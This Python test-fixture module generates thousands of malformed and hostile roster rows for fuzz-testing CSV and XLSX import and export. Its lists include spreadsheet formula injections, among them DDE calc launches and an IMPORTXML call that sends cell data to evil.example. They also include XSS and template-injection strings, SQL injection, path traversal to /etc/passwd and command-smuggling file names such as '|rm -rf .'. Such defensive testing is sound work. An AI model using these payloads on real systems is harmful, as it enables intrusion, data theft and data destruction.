"""Five thousand rows, or texts, that mean harm or were saved badly: for the import of a roster, and for every export.

Always the same ones, so that a failure can be looked at. `rows()` are what a roster file may hold, `texts()` what
people may write; `as_csv` and `as_workbook` make a file of rows. Whoever wants to know what must come of a row asks
`is_good`: what is bad has no name, or one or a label that is too long.
"""

import csv
import io
import itertools
import re
from collections.abc import Callable, Iterator, Sequence

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from facilitator.fields import LINE_LENGTH, NAME_LENGTH, clean
from facilitator.programmes.roster.fields import LABEL_LENGTH

COLUMNS = ["Naam", "Organisatie", "Functie", "Regio", "E-mail", "Labels"]
NUMBER = 5000

FORMULAS = [
    '=HYPERLINK("http://evil.example";"klik {n}")',
    "=1+{n}",
    "=cmd|' /C calc'!A{n}",
    "+{n}+cmd|'/c calc'!A0",
    "-{n}+3+cmd|' /C calc'!D2",
    "@SUM({n}+1)",
    "\t={n}+1",
    "\r={n}+1",
    "\n={n}+1",
    " ={n}+1",
    "\u200b={n}+1",
    "\ufeff@SUM({n})",
    "＝{n}+1",
    "－{n}",
    "|calc {n}",
    "%0A={n}",
    '";={n}+1;"',
    'x{n};"=1+1"',
    "'={n}+1",
    'DDE{n} ("cmd";"/C calc")',
    '=IMPORTXML(CONCAT("http://evil.example/";A{n});"//a")',
]
PAGES = [
    "<script>alert({n})</script>",
    "</title></textarea></script><img src=x onerror=alert({n})>",
    "\"' onmouseover=alert({n}) x='\"",
    "<b>vet {n}</b> & <i>schuin</i> &amp; &lt;{n}&gt;",
    "]]>{n}<!--",
    "<?xml version='1.0'?><!ENTITY x{n} 'y'>",
    "{{{{ {n}*7 }}}} {{% raw %}} ${{{n}*7}} %(n)s %s",
    "javascript:alert({n})",
    "'); DROP TABLE enrolment; -- {n}",
    '{{"name": {n}}} \\u0000 \\',
]
FILES = [
    "../../../etc/passwd-{n}",
    "..\\..\\windows\\system32\\{n}.dll",
    "/absolute/{n}",
    "C:\\temp\\{n}.csv",
    "CON",
    "aux{n}.txt",
    "naam{n}.csv\u202egpj.exe",
    "een/twee{n}/drie",
    "file:etc/{n}",
    "~/sleutel_{n}",
    "{n}|rm -rf .",
    "-rf {n}",
    "$(reboot {n}) `reboot`",
    "punt{n}.",
]
LETTERS = [
    "Zoë Café {n}",
    "cafe\u0301 {n}",
    "مرحبا بكم {n}",
    "שלום {n}",
    "李小龙 {n}",
    "Ğülşen Öztürk {n}",
    "👨‍👩‍👧‍👦 🏳️‍🌈 {n}",
    "\U0001fae8 nieuw {n}",
    "Z" + "\u0351" * 40 + "algo {n}",
    "\u202eadnA {n}",
    "\u2067rechts\u2069 {n}",
    "nul\x00nul {n}",
    "\x00\x00{n}",
    "bel\x07 wis\x08 terug\x1b[31m {n}",
    "\x7f\x85{n}\x9f",
    "half \ud83d {n}",
    "\udfffachter {n}",
    "_x0000_ _x001F_ {n}",
    "een\ntwee\r\ndrie {n}",
    "lijn\u2028alinea\u2029 {n}",
    "\ufeffmark {n}",
    "ligature ﬁ ﬂ {n}",
    '"Wit, {n}" Anna de',
    '"open aanhaling {n}',
    "komma, punt; tab\t{n}",
    "Wilhelmina Schimmel-Verhoeven {n}",
    "Annemarie van den Heuvel-Oosterbaan {n}",
    "Jan de Vries",
]
NOBODY = ["", " ", "\t \n", "\x00", "\u202e\u202c", "\u200b", "\u3164", "\ufeff"]
LONG = ["x" * 10_000, "é" * (NAME_LENGTH + 1), "w" * 81 + " {n}", "lang " * 2_000]

GOOD = [*FORMULAS, *PAGES, *FILES, *LETTERS]
_ALL = [*GOOD, *NOBODY, *LONG]


def texts(number: int = NUMBER) -> list[str]:
    """What people may write: the first of each kind, then again with other numbers."""
    return list(itertools.islice(_numbered([*GOOD, "lang " * 300]), number))


def rows(number: int = NUMBER) -> list[list[str]]:
    """Rows of a roster under COLUMNS: every kind of name, and every kind of text in the other cells."""
    names, others = _numbered(_ALL), _numbered(GOOD)
    return [_row(next(names), place, others) for place in range(number)]


def is_good(row: Sequence[str], *, written: Callable[[str], str] = lambda text: text) -> bool:
    """Whether somebody can be put on a roster by it, had it come through a file that keeps what `written` leaves."""
    name, *others = (_one_line(written(cell)) for cell in row)
    shows = any(letter.isprintable() and not letter.isspace() and letter != "\u3164" for letter in name)
    labels = [_one_line(part) for part in re.split("[,;\n]", written(row[-1]))]
    fits = len(name) <= NAME_LENGTH and all(len(cell) <= LINE_LENGTH for cell in others[:-1])
    return shows and fits and all(len(label) <= LABEL_LENGTH for label in labels)


def _one_line(text: str) -> str:
    return " ".join(clean(text).split())


def as_csv(
    rows: Sequence[Sequence[str]],
    *,
    header: Sequence[str] = COLUMNS,
    separator: str = ";",
    encoding: str = "utf-8-sig",
) -> bytes:
    """A file as a spreadsheet saves it. What the encoding has no letter for becomes a question mark."""
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=separator, lineterminator="\r\n")
    writer.writerows([header, *rows])
    return text.getvalue().encode(encoding, "replace")


def as_workbook(rows: Sequence[Sequence[str]], *, header: Sequence[str] = COLUMNS) -> bytes:
    """An XLSX. A text that begins with = is a formula in it, as it would be for whoever types it."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Deelnemers")
    for row in [header, *rows]:
        sheet.append([in_a_workbook(cell) for cell in row])
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def in_a_workbook(cell: str) -> str:
    """What a workbook can hold of a text."""
    return ILLEGAL_CHARACTERS_RE.sub("", cell).encode("utf-8", "ignore").decode()[:32_767]


def _row(name: str, place: int, others: Iterator[str]) -> list[str]:
    filled = place % 3  # of every three rows one is a name alone, and one has something in every cell
    organisation, position, region, labels = (next(others) if filled else "" for _ in range(4))
    email = f"persoon{place}@voorbeeld.example" if filled == 2 else ""
    return [name, organisation, position if filled == 2 else "", region, email, labels.replace(",", " ")]


def _numbered(patterns: Sequence[str]) -> Iterator[str]:
    for number in itertools.count(1):
        for pattern in patterns:
            yield pattern.format(n=number) if "{n}" in pattern else pattern
